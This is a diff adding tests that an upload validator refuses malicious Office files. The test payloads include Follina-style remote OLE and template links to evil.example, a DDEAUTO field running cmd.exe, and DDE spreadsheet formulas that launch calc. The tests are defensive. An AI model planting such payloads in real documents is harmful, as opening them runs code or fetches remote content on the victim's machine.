@@ -288,3 +288,53 @@ def test_imports_say_a_file_is_too_large_instead_of_damaged(ctx, org):
         with pytest.raises(DomainError) as refused:
             call()
         assert "MB" in str(refused.value.message), refused.value.message
+
+
+def _xlsx(parts: dict[str, bytes]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="x"/>')
+        z.writestr("xl/workbook.xml", b'<?xml version="1.0"?><workbook xmlns="x"/>')
+        for name, data in parts.items():
+            z.writestr(name, data)
+    return buf.getvalue()
+
+
+_RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+         b'%s</Relationships>')
+_HYPERLINK = (b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
+              b'Target="https://www.gov.cn/" TargetMode="External"/>')
+
+
+def test_office_files_that_act_when_opened_are_refused(ctx):
+    """Embedded programs, controls, outside objects loaded on opening (Follina) and DDE, as PDFs with /Launch are."""
+    ole = (b'<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
+           b'Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>')
+    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/document.xml.rels": _RELS % ole}))
+    template = ole.replace(b"oleObject", b"attachedTemplate").replace(b"mhtml:", b"")
+    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/settings.xml.rels": _RELS % template}))
+    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/embeddings/oleObject1.bin": b"MZ\x90\x00"}))
+    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/activeX/activeX1.xml": b"<ax/>"}))
+    assert "embedded objects" in _refused(ctx, "x.xlsx", _xlsx({"xl/externalLinks/externalLink1.xml": b"<e/>"}))
+    dde_field = b'<?xml version="1.0"?><w:document xmlns:w="w"><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r></w:document>'
+    assert "DDE" in _refused(ctx, "x.docx", _docx({"word/footer1.xml": dde_field}))
+    for formula in (b"cmd|' /C calc'!A0", b"msexcel|'\\..\\windows\\system32\\cmd.exe /c calc'!''", b'DDE("cmd";"/C calc";"!A0")'):
+        sheet = b'<?xml version="1.0"?><worksheet><sheetData><row><c r="A1"><f>' + formula + b"</f></c></row></sheetData></worksheet>"
+        assert "DDE" in _refused(ctx, "x.xlsx", _xlsx({"xl/worksheets/sheet1.xml": sheet})), formula
+    # Ordinary documents pass: a hyperlink (opened only when clicked), formulas joining text with "|", sheet references.
+    sheet = (b'<?xml version="1.0"?><worksheet><sheetData><row><c r="A1"><f>A2&amp;"|"&amp;\'Sheet 2\'!B1</f></c>'
+             b"<c r=\"A2\"><f>SUM(Sheet2!A1:A3)</f></c></row></sheetData></worksheet>")
+    validate_uploads([Upload("a.docx", _docx({"word/_rels/document.xml.rels": _RELS % _HYPERLINK})),
+                      Upload("b.xlsx", _xlsx({"xl/worksheets/sheet1.xml": sheet}))], "files")
+
+
+def test_a_workbook_openpyxl_wrote_with_formulas_and_a_link_passes(ctx):
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    ws["A1"], ws["A2"], ws["B1"] = 3, "=SUM(A1:A1)*2", "官网"
+    ws["B1"].hyperlink = "https://www.gov.cn/"
+    buf = io.BytesIO()
+    wb.save(buf)
+    validate_uploads([Upload("台账.xlsx", buf.getvalue())], "files")
